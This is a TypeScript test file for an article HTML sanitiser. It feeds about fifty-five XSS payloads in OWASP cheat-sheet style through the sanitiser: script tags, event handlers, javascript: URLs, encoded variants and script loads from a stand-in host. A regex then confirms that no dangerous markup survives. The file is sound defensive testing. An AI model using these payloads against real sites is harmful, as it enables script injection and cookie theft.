import { describe, expect, it } from "vitest";
import { articleText, sanitizeArticleHtml } from "./rich-text";

// Hostile input in the style of OWASP's XSS filter evasion cheat sheet: each must come out inert.
const PAYLOADS = [
  `<script>alert(1)</script>`,
  `<SCRIPT SRC=//xss.example/xss.js></SCRIPT>`,
  `<IMG SRC="javascript:alert('XSS');">`,
  `<IMG SRC=javascript:alert('XSS')>`,
  `<IMG SRC=JaVaScRiPt:alert('XSS')>`,
  `<IMG SRC=\`javascript:alert("RSnake says, 'XSS'")\`>`,
  `<a onmouseover="alert(document.cookie)">xxs link</a>`,
  `<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>`,
  `<IMG SRC=# onmouseover="alert('xxs')">`,
  `<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>`,
  `<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">`,
  `<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>`,
  `<IMG SRC="jav	ascript:alert('XSS');">`,
  `<IMG SRC="jav&#x09;ascript:alert('XSS');">`,
  `<IMG SRC=" &#14;  javascript:alert('XSS');">`,
  `<SCRIPT/XSS SRC="http://xss.example/xss.js"></SCRIPT>`,
  `<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^\`=alert("XSS")>`,
  `<<SCRIPT>alert("XSS");//\\<</SCRIPT>`,
  `<SCRIPT SRC=http://xss.example/xss.js?< B >`,
  `<iframe src=http://xss.example/scriptlet.html <`,
  `<IFRAME SRC="javascript:alert('XSS');"></IFRAME>`,
  `<iframe src="https://www.youtube.com/embed/x"></iframe>`,
  `<svg/onload=alert('XSS')>`,
  `<svg><script>alert(1)</script></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>`,
  `<BODY BACKGROUND="javascript:alert('XSS')">`,
  `<INPUT TYPE="IMAGE" SRC="javascript:alert('XSS');">`,
  `<LINK REL="stylesheet" HREF="javascript:alert('XSS');">`,
  `<STYLE>@import'http://xss.example/xss.css';</STYLE>`,
  `<p style="background-image:url(javascript:alert('XSS'))">styled</p>`,
  `<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert('XSS');">`,
  `<TABLE BACKGROUND="javascript:alert('XSS')">`,
  `<DIV STYLE="width: expression(alert('XSS'));">`,
  `<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.example/scriptlet.html"></OBJECT>`,
  `<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3JnLzIwMDAvc3ZnIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcv MjAwMC9zdmciIHhtbG5zOnhsaW5rPSJodHRwOi8vd3d3LnczLm9yZy8xOTk5L3hs aW5rIiB2ZXJzaW9uPSIxLjAiIHg9IjAiIHk9IjAiIHdpZHRoPSIxOTQiIGhlaWdodD0iMjAw IiBpZD0ieHNzIj48c2NyaXB0IHR5cGU9InRleHQvZWNtYXNjcmlwdCI+YWxlcnQoIlh TUyIpOzwvc2NyaXB0Pjwvc3ZnPg==" type="image/svg+xml" AllowScriptAccess="always"></EMBED>`,
  `<a href="javascript:alert(1)">link</a>`,
  `<a href="JaVaScRiPt&colon;alert(1)">link</a>`,
  `<a href="&#x6A;avascript:alert(1)">link</a>`,
  `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">link</a>`,
  `<a href="vbscript:msgbox(1)">link</a>`,
  `<a href="//xss.example/">protocol-relative</a>`,
  `<img src="https://tracker.example/pixel.png">`,
  `<img src="/files/public/articles/a.png" onerror="alert(1)">`,
  `<img src="/files/private/contracts/x.png">`,
  `<img src="/files/public/articles/../../api/x.png">`,
  `<form action="javascript:alert(1)"><button>go</button></form>`,
  `<base href="javascript:alert('XSS');//">`,
  `<template><script>alert(1)</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
  `<div id="x" data-x="1">data attributes</div>`,
  `<!--[if gte IE 4]><SCRIPT>alert('XSS');</SCRIPT><![endif]-->`,
  `<XSS STYLE="behavior: url(xss.htc);">`,
  `<h2 onclick="alert(1)">heading</h2>`,
  `<blockquote cite="javascript:alert(1)">quote</blockquote>`,
];

/** What must never be left in stored HTML: a script, a frame, an event handler, a style, a script URL, a foreign source. */
const DANGER =
  /<\s*(?:script|iframe|object|embed|svg|math|style|link|meta|base|form|input|button|body|table|div|template|noscript|xss)\b|\son[a-z]+\s*=|\sstyle\s*=|javascript:|vbscript:|data:|href="\/\/|src="(?!\/files\/public\/articles\/[A-Za-z0-9_-]+\.(?:png|jpe?g|webp|gif)")/i;

describe("article rich text", () => {
  it("sanitiser vs XSS payloads: no script, handler, style, foreign frame or script URL survives", () => {
    for (const payload of PAYLOADS) {
      const clean = sanitizeArticleHtml(payload);
      expect(clean, payload).not.toMatch(DANGER);
      // Stable: sanitising the result again changes nothing, so a second pass cannot uncover markup.
      expect(sanitizeArticleHtml(clean), payload).toBe(clean);
    }
  });

  it("sanitiser keeps the editor's formatting: headings, lists, bold, italic, links, quotes and our own images", () => {
    const html =
      '<h1>标题</h1><h2>一、问题</h2><p><strong>加粗</strong><em>斜体</em><a href="https://www.npc.gov.cn/">全国人大</a></p><ul><li>甲</li></ul><ol><li>乙</li></ol><blockquote><p>引文</p></blockquote><img src="/files/public/articles/3-abc.png" alt="图">';
    expect(sanitizeArticleHtml(html)).toBe(
      '<h2>标题</h2><h2>一、问题</h2><p><strong>加粗</strong><em>斜体</em><a href="https://www.npc.gov.cn/" rel="noopener noreferrer nofollow" target="_blank">全国人大</a></p><ul><li>甲</li></ul><ol><li>乙</li></ol><blockquote><p>引文</p></blockquote><img src="/files/public/articles/3-abc.png" alt="图" />',
    );
  });

  it("sanitiser: a javascript link keeps its words and loses the link", () => {
    expect(sanitizeArticleHtml('<p><a href="javascript:alert(1)">点这里</a></p>')).toBe("<p>点这里</p>");
  });

  it("article text: one line per block, entities decoded, no markup", () => {
    expect(articleText("<h2>一、问题</h2><p>甲 &amp; 乙<br />丙</p><ul><li>&lt;丁&gt;</li></ul>")).toBe("一、问题\n甲 & 乙\n丙\n<丁>");
  });
});
